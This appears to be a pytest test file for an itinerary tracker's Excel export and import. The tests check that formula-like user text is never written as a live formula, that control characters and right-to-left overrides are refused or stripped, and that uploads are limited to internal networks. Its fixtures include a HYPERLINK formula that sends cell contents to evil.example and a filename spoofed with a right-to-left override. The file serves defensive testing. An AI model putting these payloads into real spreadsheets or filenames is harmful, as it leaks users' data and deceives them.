"""The workbook carries user text safely (CONTRACT 8 and 11): never a live formula, formula-like text round-trips
as text, every engineer's export works (even with rows stored before the text rule), the download name cannot be
spoofed, and import follows the upload networks."""

import io
import re
import zipfile
from datetime import date, datetime
from urllib.parse import unquote

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from tests.conftest import NOW, login
from tracker.auth.models import User
from tracker import xlsx
from tracker.extensions import db
from tracker.itinerary import services, workbook
from tracker.itinerary.models import Expense, Trip
from tracker.customers.models import Customer

FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+2", "-3 元", "@SUM(A1:A3)",
                "=1+1\n第二行", "-", "\t制表符开头", "\r回车开头，尾随空格 "]  # purpose and note: kept as written
OUTSIDE = {"REMOTE_ADDR": "8.8.8.8"}


@pytest.fixture
def formulaic(team):
    """eng1's November: a trip and an expense per formula-like text, and a customer whose name starts with @."""
    eng = team["eng1"]
    db.session.add(Customer(name="@客户"))
    db.session.commit()
    for day, text in enumerate(FORMULA_LIKE, start=2):
        services.save_trip(eng, eng, {"date": date(2026, 11, day), "depart": "09:00", "return": "10:00",
                                      "purpose": text, "note": text, "customer": "@客户"}, now=NOW)
        services.save_expense(eng, eng, {"date": date(2026, 11, day), "category": "other", "amount": "1",
                                         "note": text}, now=NOW)
    db.session.commit()
    return eng


def _texts(engineer):
    db.session.expire_all()
    trips = db.session.scalars(select(Trip).where(Trip.engineer_id == engineer.id).order_by(Trip.day)).all()
    expenses = db.session.scalars(select(Expense).where(Expense.engineer_id == engineer.id)
                                  .order_by(Expense.day)).all()
    return ([(t.day, t.purpose, t.note, t.customer.name) for t in trips], [(e.day, e.note) for e in expenses])


def test_formula_like_text_is_written_as_text_never_as_a_formula(api, formulaic):
    response = api("GET", "/itineraries/eng1/2026.xlsx", "eng1")
    assert response.status_code == 200
    data = response.get_data()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # no formula anywhere in the file
    book = load_workbook(io.BytesIO(data))  # formulas kept as formulas: none may appear
    cells = [cell for row in book["11月"].iter_rows() for cell in row if isinstance(cell.value, str)]
    for text in FORMULA_LIKE:
        found = [cell for cell in cells if xlsx.text(cell.value) == text]
        assert len(found) == 3, text  # purpose, note of the trip, note of the expense
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found), text
    assert [cell for cell in cells if cell.value == "@客户"]


def test_formula_like_text_round_trips_through_export_and_import(api, formulaic):
    before = _texts(formulaic)
    exported = api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()

    def imported():
        response = api("POST", "/itineraries/eng1/2026.xlsx", "eng1", content_type="multipart/form-data",
                       data={"file": (io.BytesIO(exported), "2026年张三工作行程表.xlsx")})
        assert response.status_code == 200, response.get_data(as_text=True)
        return {m["month"]: m["status"] for m in response.get_json()["months"]}["2026-11"]

    ids = db.session.scalars(select(Trip.id).order_by(Trip.id)).all()
    assert imported() == "unchanged"  # the file reads back as exactly what is stored: nothing is rewritten
    assert db.session.scalars(select(Trip.id).order_by(Trip.id)).all() == ids and _texts(formulaic) == before
    services.delete_month_data(formulaic, "2026-11", now=NOW)
    db.session.commit()
    assert imported() == "replaced"  # stored again from the file's text
    assert _texts(formulaic) == before
    assert [purpose for _day, purpose, _note, _customer in before[0]] == FORMULA_LIKE


def test_text_sent_through_the_api_starting_with_tab_or_cr_is_stored_and_exported_as_sent(api, team):
    """Multi-line text is kept as written (a leading TAB or CR, trailing spaces): the workbook's cell is the text
    that was sent, and so is a work order's description."""
    purpose, note = "\t=1+1 制表符开头", "\r回车开头 "
    trip = api("POST", "/trips", "eng1", json={"date": "2026-11-03", "depart": "09:00", "return": "10:00",
                                               "purpose": purpose, "note": note})
    assert trip.status_code == 201, trip.get_json()
    assert (trip.get_json()["purpose"], trip.get_json()["note"]) == (purpose, note)
    expense = api("POST", "/expenses", "eng1", json={"date": "2026-11-03", "category": "meals", "amount": 20,
                                                     "note": "  两端空格  "})
    assert expense.get_json()["note"] == "  两端空格  "
    book = load_workbook(io.BytesIO(api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()))
    texts = {xlsx.text(cell.value) for row in book["11月"].iter_rows() for cell in row if isinstance(cell.value, str)}
    assert {purpose, note, "  两端空格  "} <= texts
    order = api("POST", "/work-orders", "office", json={"customer": "旗滨玻璃", "service_type": "维修",
                                                        "engineer": "eng1", "reported_at": "2026-11-03T09:00",
                                                        "description": "\t第一行\n第二行\n"})
    assert order.status_code == 201, order.get_json()
    assert order.get_json()["description"] == "\t第一行\n第二行\n"


@pytest.mark.parametrize("text", ["\tx", "\rx", "=A1", "+A1", "-A1", "@A1"])
def test_every_text_starting_like_a_formula_is_a_quoted_text_cell(text):
    sheet = Workbook().active
    cell = workbook._put(sheet, 1, 0, text)
    # a CR is held as Excel writes it (_x000D_), which survives the XML; xlsx.text reads it back
    assert (xlsx.text(cell.value), cell.data_type, cell.quotePrefix) == (text, "s", True)
    plain = workbook._put(sheet, 2, 0, "普通文字")
    assert (plain.data_type, plain.quotePrefix) == ("s", False)


def _legacy(engineer, **columns):
    """Write columns straight into the table, as rows stored before the text rule could be."""
    db.session.execute(update(User).where(User.id == engineer.id).values(**columns))
    db.session.commit()


def test_exports_of_every_engineer_work_even_with_text_stored_before_the_rule(api, team):
    eng1, eng2, eng3 = team["eng1"], team["eng2"], team["eng3"]
    services.save_trip(eng1, eng1, {"date": date(2026, 11, 2), "full_day": True, "purpose": "正常"}, now=NOW)
    db.session.commit()
    # eng2 and eng3 hold what the rule now refuses: control characters and a right-to-left override
    db.session.add_all([
        Trip(engineer_id=eng2.id, day=date(2026, 11, 3), full_day=True, hours=7.5, purpose="bell\x07\ufffe",
             note="\x1b[31m红\x00字\uffff", created_at=datetime(2026, 11, 3)),
        Expense(engineer_id=eng3.id, day=date(2026, 11, 4), category="meals", amount=12, note="\x85\x9b\x7f",
                created_at=datetime(2026, 11, 4)),
    ])
    db.session.commit() if db.engine.dialect.name == "sqlite" else db.session.rollback()
    if db.engine.dialect.name != "sqlite":  # PostgreSQL cannot store NUL at all: the rest still breaks a workbook
        db.session.add(Trip(engineer_id=eng2.id, day=date(2026, 11, 3), full_day=True, hours=7.5,
                            purpose="bell\x07\ufffe", note="\x1b[31m红字\uffff", created_at=datetime(2026, 11, 3)))
        db.session.add(Expense(engineer_id=eng3.id, day=date(2026, 11, 4), category="meals", amount=12,
                               note="\x85\x9b\x7f", created_at=datetime(2026, 11, 4)))
        db.session.commit()
    _legacy(eng3, display_name="王\x07五\u202e\ufffe")  # U+FFFE, U+FFFF: no XML may hold them
    engineers = db.session.scalars(select(User).where(User.role == "engineer").order_by(User.username)).all()
    assert len(engineers) == 3
    for engineer in engineers:
        response = api("GET", f"/itineraries/{engineer.username}/2026.xlsx", "gm.wang")
        assert response.status_code == 200, (engineer.username, response.get_data(as_text=True))
        load_workbook(io.BytesIO(response.get_data()))  # a workbook a spreadsheet program can open
        disposition = response.headers["Content-Disposition"]
        name = unquote(re.search(r"filename\*=UTF-8''(.+)$", disposition).group(1))
        assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]", name), name
    assert name == "2026年王五工作行程表.xlsx"


def test_the_web_download_name_cannot_be_spoofed_by_a_stored_override(app, client, team):
    _legacy(team["eng1"], display_name="张三\u202eslx.exe")
    login(client, "eng1")
    response = client.get("/itinerary/eng1/2026.xlsx")
    assert response.status_code == 200
    assert "%E2%80%AE" not in response.headers["Content-Disposition"]  # U+202E, percent-encoded
    assert "2026%E5%B9%B4%E5%BC%A0%E4%B8%89slx.exe" in response.headers["Content-Disposition"]


def _workbook_file(api):
    return api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()


def test_workbook_import_from_outside_the_upload_networks_is_403_on_api_and_web(app, api, client, formulaic):
    before = _texts(formulaic)
    data = _workbook_file(api)
    response = api("POST", "/itineraries/eng1/2026.xlsx", "eng1", content_type="multipart/form-data",
                   data={"file": (io.BytesIO(data), "2026年张三工作行程表.xlsx")}, environ_base=OUTSIDE)
    assert response.status_code == 403 and response.get_json()["error"]["code"] == "forbidden"
    login(client, "eng1")
    response = client.post("/itinerary/eng1/2026/import", data={"file": (io.BytesIO(data),
                                                                          "2026年张三工作行程表.xlsx")},
                           environ_base=OUTSIDE)
    assert response.status_code == 403
    assert _texts(formulaic) == before
    # the year page says so there instead of offering a form that can only be refused (as the other uploads do)
    page = client.get("/itinerary/eng1/2026", environ_base=OUTSIDE).get_data(as_text=True)
    assert "只能在公司内网上传文件。" in page and "/itinerary/eng1/2026/import" not in page
    assert "/itinerary/eng1/2026/import" in client.get("/itinerary/eng1/2026").get_data(as_text=True)
    # from inside the networks the same upload is taken
    response = client.post("/itinerary/eng1/2026/import", data={"file": (io.BytesIO(data),
                                                                          "2026年张三工作行程表.xlsx")})
    assert response.status_code == 302


@pytest.mark.parametrize("column, char", [(workbook.COL_PURPOSE, "\x85"), (workbook.COL_NOTE, "\x7f"),
                                          (workbook.COL_CUSTOMER, "\x9b")])
def test_import_refuses_control_characters_in_a_cell_and_stores_nothing(api, team, column, char):
    """DEL and C1 characters are legal in a workbook file, so one edited elsewhere can carry them."""
    book = load_workbook(io.BytesIO(api("GET", "/itineraries/eng1/2026.xlsx", "eng1").get_data()))
    sheet = book["11月"]
    sheet.cell(row=3, column=workbook.COL_FULL_DAY + 1, value="是")
    sheet.cell(row=3, column=column + 1, value=f"响{char}铃")
    out = io.BytesIO()
    book.save(out)
    response = api("POST", "/itineraries/eng1/2026.xlsx", "eng1", content_type="multipart/form-data",
                   data={"file": (io.BytesIO(out.getvalue()), "2026年张三工作行程表.xlsx")})
    assert response.status_code == 422, response.get_data(as_text=True)
    error = response.get_json()["error"]
    assert f"U+{ord(char):04X}" in error["message"] and "第 3 行" in error["message"], error
    assert db.session.scalar(select(Trip.id)) is None


def _with_shared_strings(*texts):
    """A workbook whose cells are shared strings, as Excel saves them (openpyxl writes inline strings)."""
    book = Workbook()
    book.active["A1"] = "PLACE"
    saved = io.BytesIO()
    book.save(saved)
    cells = "".join(f'<c r="{chr(65 + index)}1" t="s"><v>{index}</v></c>' for index in range(len(texts)))
    strings = "".join(f"<si><t>{text}</t></si>" for text in texts)
    parts = {
        "xl/worksheets/sheet1.xml": (b'<c r="A1" t="inlineStr"><is><t>PLACE</t></is></c>', cells.encode()),
        "[Content_Types].xml": (b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'),
        "xl/_rels/workbook.xml.rels": (b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.'
                                       b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
                                       b'Target="sharedStrings.xml"/></Relationships>'),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved.getvalue())) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name in parts:
                assert parts[name][0] in data
                data = data.replace(*parts[name])
            target.writestr(name, data)
        target.writestr("xl/sharedStrings.xml", '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                        f'main">{strings}</sst>')
    return load_workbook(io.BytesIO(out.getvalue()))


def test_escapes_read_back_from_our_workbooks_and_from_excels():
    """Ours (inline strings) and Excel's (shared strings) hold a CR as _x000D_ and an underscore before escape-like
    text as _x005F_: both read back as what was typed; of the other escapes only control characters are undone."""
    typed = ["第一行\r\n第二行", "x_x0041_y", "\r开头", "_x005F_", "plain"]
    sheet = Workbook().active
    for column, text in enumerate(typed, start=1):
        xlsx.put(sheet, 1, column, text)
    saved = io.BytesIO()
    sheet.parent.save(saved)
    ours = load_workbook(io.BytesIO(saved.getvalue())).active
    assert [xlsx.text(cell.value) for cell in ours[1]] == typed
    excels = _with_shared_strings("第一行_x000D_\n第二行", "x_x005F_x0041_y", "_x000D_开头", "plain",
                                  "响铃_x0007_客户").active
    assert [xlsx.text(cell.value) for cell in excels[1]] == ["第一行\r\n第二行", "x_x0041_y", "\r开头", "plain",
                                                          "响铃\x07客户"]  # a BEL, refused where it is read
